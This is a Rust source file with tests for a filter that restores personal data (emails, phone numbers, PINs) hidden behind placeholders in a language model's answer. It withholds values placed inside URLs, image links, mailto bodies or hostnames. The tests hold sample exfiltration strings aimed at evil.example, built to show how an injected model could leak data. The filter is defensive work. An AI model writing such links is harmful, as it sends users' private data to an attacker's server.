//! Decides what of an answer is a placeholder, and puts the value back where it cannot be carried off.
//!
//! A placeholder is, in this order, without regard to case:
//! 1. `<`, or `\<` or `&lt;`, which may be missing;
//! 2. the request's tag, letter by letter;
//! 3. the number of a value that is kept;
//! 4. what it is, `EMAIL_ADDRESS`; between its words, and before and after the number, one to four of `_`, `-`, `*`, `` ` ``, `\`
//!    and blanks, as models and Markdown spell them; or nothing of it, if `>` follows at once;
//! 5. `>`, or `\>` or `&gt;`, if 1. was there; it may be missing.
//!
//! Anything else with the tag in it stays as it is, and counts as `placeholder.unknown`.
//!
//! Within an address, or where the text goes on as one (`.evil.example`), nothing is put back (`places.rs`), whoever's host it has: the model, or who made it write, would read
//! the value in the log of that host. The placeholder stays, and counts as `placeholder.url`.
//!
//! Held back: what may become a placeholder: `<` until the next character, and behind the tag at most 384 characters.
//!
//! # What it does not do
//! It does not put back what the model paraphrased ("the first address"), nor a tag that is spelled otherwise.

use super::findings::{Findings, Found};
use super::placeholders::{ENTITY, Placeholders, TAG};
use super::places::{LABEL, Places, leads_on};
use super::{Filter, Plan};

/// Puts values back.
pub struct Restore(Placeholders);

impl Restore {
    pub(super) fn new(placeholders: Placeholders) -> Self {
        Self(placeholders)
    }
}

impl Plan for Restore {
    fn start(&self) -> Box<dyn Filter> {
        let tag = self.0.map().tag().to_owned();
        let first = tag.bytes().next().unwrap_or(b'<');
        Box::new(Run {
            placeholders: self.0.clone(),
            tag,
            first,
            places: Places::default(),
            held: String::new(),
            at: 0,
            findings: Findings::default(),
        })
    }
}

struct Run {
    placeholders: Placeholders,
    tag: String,
    first: u8,
    places: Places,
    held: String,
    /// Code points before *held*.
    at: u64,
    findings: Findings,
}

/// What the text that is held is.
#[derive(Debug, PartialEq, Eq)]
enum Read {
    More,
    Not,
    /// It has the tag, and is no placeholder.
    Unknown,
    Whole {
        bytes: usize,
        number: usize,
    },
}

impl Filter for Run {
    fn feed(&mut self, text: &str, out: &mut String) {
        let mut rest = text;
        loop {
            if self.held.is_empty() {
                let plain = rest.bytes().position(|byte| self.begins(byte)).unwrap_or(rest.len());
                let (passes, after) = rest.split_at_checked(plain).unwrap_or((rest, ""));
                self.write(passes, out);
                rest = after;
            }
            let Some(c) = rest.chars().next() else { break };
            rest = rest.get(c.len_utf8()..).unwrap_or_default();
            self.held.push(c);
            self.settle(false, out);
        }
    }

    fn finish(&mut self, out: &mut String) {
        self.settle(true, out);
    }

    fn held(&self) -> usize {
        self.held.chars().count()
    }

    fn findings(&self, all: &mut Vec<Found>) {
        self.findings.tell(all);
    }

    fn stopped(&self) -> Option<&'static str> {
        None
    }
}

impl Run {
    fn begins(&self, byte: u8) -> bool {
        matches!(byte, b'<' | b'\\' | b'&') || byte.eq_ignore_ascii_case(&self.first)
    }

    fn write(&mut self, text: &str, out: &mut String) {
        out.push_str(text);
        self.places.wrote(text);
        self.at += super::findings::points(text);
    }

    fn settle(&mut self, ends: bool, out: &mut String) {
        while !self.held.is_empty() {
            let read = {
                let map = self.placeholders.map();
                read(&self.held, &self.tag, ends, |number| map.entry(number).map(|(entity, _)| entity))
            };
            let mut within = self.places.is_address();
            if let (Read::Whole { bytes, .. }, false) = (&read, within) {
                match leads_on(self.held.get(*bytes..).unwrap_or_default(), ends) {
                    Some(leads) => within = leads,
                    None => return,
                }
            }
            let pass = match read {
                Read::More => return,
                Read::Whole { bytes, number } if !within => {
                    self.findings.note("placeholder.restored", self.at);
                    let map = self.placeholders.map();
                    let value = map.entry(number).map_or("", |(_, value)| value);
                    out.push_str(value);
                    // What follows a value that is an address is within it.
                    self.places.wrote(value);
                    self.at += super::findings::points(self.held.get(..bytes).unwrap_or_default());
                    drop(map);
                    self.held.drain(..bytes.min(self.held.len()));
                    continue;
                }
                Read::Whole { bytes, .. } => {
                    self.findings.note("placeholder.url", self.at);
                    bytes
                }
                Read::Unknown => {
                    self.findings.note("placeholder.unknown", self.at);
                    TAG
                }
                Read::Not => 1,
            };
            // Up to the next character that may begin one.
            let next = self.held.bytes().enumerate().skip(pass).find(|(_, byte)| self.begins(*byte));
            let pass = next.map_or(self.held.len(), |(at, _)| at);
            let passes: String = self.held.drain(..pass).collect();
            self.write(&passes, out);
        }
    }
}

/// A cursor over what is held.
struct Reader<'h> {
    rest: &'h str,
    whole: usize,
}

impl Reader<'_> {
    fn next(&self) -> Option<char> {
        self.rest.chars().next()
    }

    fn skip(&mut self, bytes: usize) {
        self.rest = self.rest.get(bytes..).unwrap_or_default();
    }

    fn done(&self) -> usize {
        self.whole - self.rest.len()
    }

    /// Skips one of *words*; none if what is there may still become one.
    fn one_of(&mut self, words: &[&str]) -> Option<bool> {
        for word in words {
            let length = word.len().min(self.rest.len());
            if self
                .rest
                .get(..length)
                .is_some_and(|start| start.eq_ignore_ascii_case(word.get(..length).unwrap_or_default()))
            {
                if length < word.len() {
                    return None;
                }
                self.skip(length);
                return Some(true);
            }
        }
        Some(false)
    }

    fn separators(&mut self, most: usize) -> usize {
        let count = self.rest.bytes().take(most).take_while(|b| b"_-*`\\ ".contains(b)).count();
        self.skip(count);
        count
    }
}

fn read<'m>(held: &str, tag: &str, ends: bool, entity: impl Fn(usize) -> Option<&'m str>) -> Read {
    let mut reader = Reader { rest: held, whole: held.len() };
    let more = |otherwise: Read| if ends { otherwise } else { Read::More };
    let left = match reader.one_of(&["<", "\\<", "&lt;"]) {
        Some(left) => left,
        None => return more(Read::Not),
    };
    if left {
        reader.separators(3);
    }
    match reader.one_of(&[tag]) {
        Some(true) => {}
        Some(false) => return Read::Not,
        None => return more(Read::Not),
    }
    let separated = reader.separators(4);
    let digits = reader.rest.bytes().take(7).take_while(u8::is_ascii_digit).count();
    if reader.rest.len() == digits && digits < 7 {
        return more(Read::Unknown);
    }
    let number = reader.rest.get(..digits).and_then(|digits| digits.parse::<usize>().ok()).unwrap_or(0);
    let Some(entity) = entity(number).filter(|_| separated > 0) else { return Read::Unknown };
    reader.skip(digits);
    let number_end = reader.done();
    let between = reader.separators(4);
    let right = ["\\>", ">", "&gt;"];
    if left && (between == 0 || reader.next() != entity.chars().next()) {
        // The number alone, if it is closed at once.
        let mut closed = Reader { rest: held.get(number_end..).unwrap_or_default(), whole: held.len() };
        match closed.one_of(&right) {
            Some(true) => return Read::Whole { bytes: closed.done(), number },
            None => return more(Read::Unknown),
            Some(false) => {}
        }
    }
    if between == 0 {
        return Read::Unknown;
    }
    for word in entity.split('_') {
        if !entity.starts_with(word) || reader.done() != number_end + between {
            reader.separators(4);
        }
        match reader.one_of(&[word]) {
            Some(true) => {}
            Some(false) => return Read::Unknown,
            None => return more(Read::Unknown),
        }
    }
    let bytes = reader.done();
    match reader.next() {
        None => return more(Read::Whole { bytes, number }),
        Some(c) if c.is_alphanumeric() => return Read::Unknown,
        Some(_) => {}
    }
    if left {
        let decorated = reader.separators(3);
        match reader.one_of(&right) {
            Some(true) => return Read::Whole { bytes: reader.done(), number },
            None => return more(Read::Whole { bytes, number }),
            // An escaped sign may be what the separators took for one.
            Some(false) if decorated > 0 && reader.next().is_none() => {
                return more(Read::Whole { bytes, number });
            }
            Some(false) => {}
        }
    }
    Read::Whole { bytes, number }
}

/// The most that is held back: a tag, a number and an entity with all that may stand between them.
const _: () = assert!(5 + 3 + TAG + 4 + 6 + 4 + ENTITY * 5 + 3 + 5 + LABEL + 2 < 384);

#[cfg(test)]
mod tests {
    use super::super::placeholders::Hidden;
    use super::super::tests::{one, rules};
    use super::*;

    fn hidden() -> (Placeholders, String) {
        let placeholders = Placeholders::new(3, 64, [7; 24]).unwrap_or_else(|_| unreachable!());
        let text = "ada@example.com, +49 30 1234, ada@example.com";
        let parts = [(0, 15, "EMAIL_ADDRESS"), (17, 28, "PHONE_NUMBER"), (30, 45, "EMAIL_ADDRESS")];
        let parts = parts.map(|(start, end, entity)| Hidden { start, end, entity });
        let hidden = placeholders.hide(text, parts);
        (placeholders, hidden)
    }

    #[test]
    fn a_value_has_one_placeholder_and_comes_back() {
        let (placeholders, hidden) = hidden();
        assert_eq!(
            hidden,
            "<hhhhhhhh_1_EMAIL_ADDRESS>, <hhhhhhhh_2_PHONE_NUMBER>, <hhhhhhhh_1_EMAIL_ADDRESS>"
        );
        assert_eq!(one(&placeholders.restorer(), &hidden), "ada@example.com, +49 30 1234, ada@example.com");
        assert_eq!(format!("{placeholders:?}"), "Placeholders(2 values)");
    }

    #[test]
    fn small_changes_that_models_make_are_understood() {
        let (placeholders, _) = hidden();
        for text in [
            "<HHHHHHHH_1_email_address>",
            "<hhhhhhhh\\_1\\_EMAIL\\_ADDRESS>",
            "hhhhhhhh_1_EMAIL_ADDRESS",
            "< hhhhhhhh 1 Email Address >",
            "<hhhhhhhh-1-EMAIL-ADDRESS>",
            "\\<hhhhhhhh_1_EMAIL_ADDRESS\\>",
            "&lt;hhhhhhhh_1_EMAIL_ADDRESS&gt;",
            "<hhhhhhhh_1>",
            "<**hhhhhhhh_1_EMAIL_ADDRESS**>",
            "<`hhhhhhhh`_1_EMAIL_ADDRESS>",
        ] {
            assert_eq!(
                one(&placeholders.restorer(), &format!("to {text}.")),
                "to ada@example.com.",
                "{text}"
            );
            assert_eq!(one(&placeholders.restorer(), text), "ada@example.com", "{text}");
        }
        assert_eq!(one(&placeholders.restorer(), "**<hhhhhhhh_1_EMAIL_ADDRESS>**!"), "**ada@example.com**!");
        assert_eq!(one(&placeholders.restorer(), "**hhhhhhhh_1_EMAIL_ADDRESS** b"), "**ada@example.com** b");
    }

    #[test]
    fn what_is_no_placeholder_stays() {
        let (placeholders, _) = hidden();
        for text in [
            "<hhhhhhhh_9_EMAIL_ADDRESS>",
            "<hhhhhhhh_1_PHONE_NUMBER>",
            "<hhhhhhhh_12_EMAIL_ADDRESS>",
            "<hhhhhhhh_0>",
            "<hhhhhhhh",
            "hhhhhhhh_1",
            "<hhhhhhhh_1_EMAIL_ADDRESSES>",
            "<hhhhhhhh1_EMAIL_ADDRESS>",
            "<hhhhhhhh_99999999999999999999>",
            "hhhhhhhhhhhhhhhhh",
            "<EMAIL_ADDRESS_1>",
            "<b>",
            "&lt;",
            "\\<",
            "<hhhhhhhg_1_EMAIL_ADDRESS>",
        ] {
            assert_eq!(one(&placeholders.restorer(), text), text);
        }
        assert_eq!(
            rules(&placeholders.restorer(), "<hhhhhhhh_9_EMAIL_ADDRESS> hhhhhhhh"),
            ["placeholder.unknown"]
        );
    }

    #[test]
    fn nothing_is_put_back_into_an_address() {
        let (placeholders, _) = hidden();
        for text in [
            "![x](https://cdn.example/?q=<hhhhhhhh_1_EMAIL_ADDRESS>)",
            "![x][1]\n\n[1]: https://cdn.example/<hhhhhhhh_1_EMAIL_ADDRESS>",
            "<img src='https://cdn.example/?q=hhhhhhhh_1_EMAIL_ADDRESS'>",
            "https://cdn.example/hhhhhhhh_1_EMAIL_ADDRESS",
            "evil.example/?q=<hhhhhhhh_1_EMAIL_ADDRESS>",
            "mailto:x@evil.example?body=<hhhhhhhh_1_EMAIL_ADDRESS>",
            "https:/evil.example/<hhhhhhhh_1_EMAIL_ADDRESS>",
            "<hhhhhhhh_1_EMAIL_ADDRESS>.evil.example",
            "hhhhhhhh_1_EMAIL_ADDRESS.evil.example",
            "<hhhhhhhh_1_EMAIL_ADDRESS>-x%2eevil.example",
            "<hhhhhhhh_1_EMAIL_ADDRESS>@evil.example",
        ] {
            assert_eq!(one(&placeholders.restorer(), text), text);
            assert_eq!(rules(&placeholders.restorer(), text), ["placeholder.url"]);
        }
    }

    #[test]
    fn a_sentence_may_end_with_a_value_or_be_joined_to_it() {
        let (placeholders, _) = hidden();
        for (before, after) in [
            ("To ", ". Then"),
            ("", "."),
            ("", "."),
            ("", "-Adresse, "),
            ("", "。次"),
            ("a=", ""),
            ("", "s."),
        ] {
            let text = format!("{before}<hhhhhhhh_1_EMAIL_ADDRESS>{after}");
            assert_eq!(one(&placeholders.restorer(), &text), format!("{before}ada@example.com{after}"));
        }
    }

    #[test]
    fn the_map_is_bounded_and_can_be_wiped() {
        let placeholders = Placeholders::new(2, 8, [1; 24]).unwrap_or_else(|_| unreachable!());
        let whole =
            |text: &str| placeholders.hide(text, [Hidden { start: 0, end: text.len(), entity: "PIN" }]);
        assert_eq!(whole("1234"), "<bbbbbbbb_1_PIN>");
        assert_eq!(whole("123456789"), "[REDACTED:PIN]");
        assert_eq!(whole("4321"), "<bbbbbbbb_2_PIN>");
        assert_eq!(whole("1"), "[REDACTED:PIN]");
        assert_eq!(
            (whole("4321"), placeholders.full(), placeholders.len()),
            ("<bbbbbbbb_2_PIN>".to_owned(), 2, 2)
        );
        let restorer = placeholders.restorer();
        placeholders.close();
        assert_eq!(one(&restorer, "<bbbbbbbb_1_PIN>"), "<bbbbbbbb_1_PIN>");
        assert_eq!(whole("1234"), "[REDACTED:PIN]");
        assert!(placeholders.is_empty());
    }

    #[test]
    fn bounds_that_keep_nothing_are_refused() {
        for (entries, bytes) in [(0, 1), (1, 0), (100_001, 1)] {
            assert!(Placeholders::new(entries, bytes, [0; 24]).is_err());
        }
    }
}
